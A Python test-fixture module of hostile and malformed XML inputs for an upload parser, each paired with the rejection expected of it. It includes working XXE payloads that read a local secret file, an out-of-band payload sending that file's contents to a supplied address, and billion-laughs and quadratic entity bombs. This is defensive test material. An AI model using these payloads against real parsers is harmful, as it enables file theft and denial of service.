"""Documents made to hurt a parser, each with what the door must say of it."""

from collections.abc import Mapping
from pathlib import Path

HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
CANARY = "canary-5ec7e7"


def doctype(inner: str, body: str = "<a>&e;</a>") -> bytes:
    return HEAD + f"<!DOCTYPE a {inner}>{body}".encode()


def laughs(levels: int) -> bytes:
    entities = ['<!ENTITY l0 "ha">']
    entities += [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels)]
    return doctype(f"[{''.join(entities)}]", f"<a>&l{levels - 1};</a>")


def doctypes(secret: Path, address: str) -> Mapping[str, bytes]:
    """Everything that needs a document type: files, addresses, bombs."""
    file = secret.as_uri()
    return {
        "plain": HEAD + b"<!DOCTYPE a><a/>",
        "internal subset": doctype('[<!ENTITY e "x">]'),
        "file": doctype(f'[<!ENTITY e SYSTEM "{file}">]'),
        "file in an attribute": doctype(f'[<!ENTITY e SYSTEM "{file}">]', '<a b="&e;"/>'),
        "file by name": doctype(f'[<!ENTITY e SYSTEM "{secret}">]'),
        "public file": doctype(f'[<!ENTITY e PUBLIC "x" "{file}">]'),
        "parameter entity": doctype(f'[<!ENTITY % p SYSTEM "{file}"> %p;]'),
        "device": doctype('[<!ENTITY e SYSTEM "file:///dev/zero">]'),
        "address": doctype(f'[<!ENTITY e SYSTEM "{address}/e">]'),
        "address as ftp": doctype(f'[<!ENTITY e SYSTEM "{address.replace("http", "ftp")}/e">]'),
        "external subset": doctype(f'SYSTEM "{address}/x.dtd"', "<a/>"),
        "external subset in a file": doctype(f'SYSTEM "{file}"', "<a/>"),
        "public subset": doctype(f'PUBLIC "-//X//Y" "{address}/x.dtd"', "<a/>"),
        "sent away": doctype(
            f'[<!ENTITY % f SYSTEM "{file}"><!ENTITY % s SYSTEM "{address}/?%f;">%s;]', "<a/>"
        ),
        "laughs": laughs(10),
        "few laughs": laughs(3),
        "quadratic": doctype(f'[<!ENTITY e "{"x" * 50_000}">]', f"<a>{'&e;' * 2_000}</a>"),
        "eats itself": doctype('[<!ENTITY e "&e;">]'),
        "eat each other": doctype('[<!ENTITY e "&f;"><!ENTITY f "&e;">]'),
        "unparsed": doctype(f'[<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "{file}" NDATA n>]'),
        "default attribute": doctype('[<!ATTLIST a b CDATA "smuggled">]', "<a/>"),
        "in a comment": HEAD + b"<!-- <!DOCTYPE a> --><a/>",
        "in a section": HEAD + b"<a><![CDATA[<!DOCTYPE a>]]></a>",
        "after a comment": HEAD + b"<!-- x --><!DOCTYPE a><a/>",
        "conditional": doctype("[<![INCLUDE[<!ENTITY e 'x'>]]>]"),
    }


BROKEN: Mapping[str, bytes] = {
    "text": b"not at all",
    "unclosed": b"<a>",
    "half a tag": b"<a",
    "crossed": b"<a><b></a></b>",
    "two roots": b"<a/><b/>",
    "text after": b"<a/>text",
    "text before": b"text<a/>",
    "no root": HEAD,
    "only a comment": b"<!-- nothing -->",
    "unknown prefix": b"<x:a/>",
    "unknown prefix of an attribute": b'<a x:b="1"/>',
    "attribute twice": b'<a b="1" b="2"/>',
    "attribute twice by namespace": b'<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>',
    "attribute without quotes": b"<a b=1/>",
    "bare ampersand": b"<a>x & y</a>",
    "less than in an attribute": b'<a b="<"/>',
    "control character": b"<a>\x01</a>",
    "control by number": b"<a>&#1;</a>",
    "zero by number": b"<a>&#0;</a>",
    "half a pair": b"<a>&#xD800;</a>",
    "beyond unicode": b"<a>&#x110000;</a>",
    "unending section": b"<a><![CDATA[x</a>",
    "unending comment": b"<a><!-- x</a>",
    "double dash": b"<a><!-- x -- y --></a>",
    "declaration too late": b" <?xml version='1.0'?><a/>",
    "declaration twice": HEAD + HEAD + b"<a/>",
    "version 9": b"<?xml version='9.0'?><a/",
    "a name of digits": b"<1a/>",
    "one enormous text": b"<a>" + b"x" * 11_000_000 + b"</a>",
    "one enormous name": b"<" + b"a" * 200_000 + b"/>",
    "a page of the web": b"<!doctype html><html><p>hello<br></html>",
    "a picture": b"\x89PNG\r\n\x1a\n"[1:] + b"<a/>",
    "a table": b"MRN;office\r\n26AL;AL002000\r\n",
    "json": b'{"MRN": "26AL"}',
}
"""What is no XML."""

REFUSED: Mapping[str, tuple[str, bytes]] = {
    "nothing": ("messages.empty", b""),
    "blanks": ("messages.empty", b" \n\t "),
    "a byte order mark alone": ("messages.empty", b"\xef\xbb\xbf"),
    "zero byte": ("messages.nul", b"<a>\0</a>"),
    "never closed": ("messages.not_xml", b"<a>" + b"<!--" * 1_000_000),
    "never ended": ("messages.not_xml", b"<a>" + b"<![CDATA[" * 500_000),
    "a pdf": ("messages.other_kind", b"%PDF-1.7\n"),
    "a zip": ("messages.other_kind", b"PK\x03\x04\x14\0"),
    "a gzip": ("messages.other_kind", b"\x1f\x8b\x08\0"),
    "a picture": ("messages.other_kind", b"\x89PNG\r\n"),
    "a photograph": ("messages.other_kind", b"\xff\xd8\xff\xe0"),
    "utf-16": ("messages.nul", "<a>ë</a>".encode("utf-16-le")),
    "utf-16 with mark": ("messages.other_encoding", "<a/>".encode("utf-16")),
    "utf-32": ("messages.other_encoding", "<a/>".encode("utf-32")),
    "latin letters": ("messages.not_utf8", "<a>ë</a>".encode("latin-1")),
    "overlong": ("messages.not_utf8", b"<a>\xc0\xaf</a>"),
    "half a letter": ("messages.not_utf8", b"<a>\xc3</a>"),
    "a surrogate": ("messages.not_utf8", b"<a>\xed\xa0\x80</a>"),
    "zipped": ("messages.other_kind", b"\x1f\x8b\x08<a/>"),
    "other encoding": (
        "messages.other_encoding",
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
    ),
    "seven bits": ("messages.other_encoding", b"<?xml version='1.0' encoding='UTF-7'?><a/>"),
    "unknown encoding": ("messages.other_encoding", b"<?xml version='1.0' encoding='x'?><a/>"),
    "undefined entity": ("messages.entity", b"<a>&e;</a>"),
    "entity of html": ("messages.entity", b"<a>&nbsp;</a>"),
    "entity in an attribute": ("messages.entity", b'<a b="&e;"/>'),
    "too deep": ("messages.too_deep", b"<a>" * 65 + b"</a>" * 65),
    "far too deep": ("messages.too_deep", b"<a>" * 100_000),
    "too many": ("messages.too_many_elements", b"<r>" + b"<a/>" * 500_000 + b"</r>"),
    "far too many": ("messages.too_many_elements", b"<r>" + b"<a/>" * 2_000_000 + b"</r>"),
    "too many attributes": (
        "messages.too_many_attributes",
        b"<a %s/>" % b" ".join(b'x%d="1"' % n for n in range(65)),
    ),
    "far too many attributes": (
        "messages.too_many_attributes",
        b"<a %s/>" % b" ".join(b'x%d="1"' % n for n in range(200_000)),
    ),
    "too large": ("messages.too_large", b"<a>" + b" " * (16 * 1024 * 1024) + b"</a>"),
}
"""What the door refuses before, or while, it is parsed."""
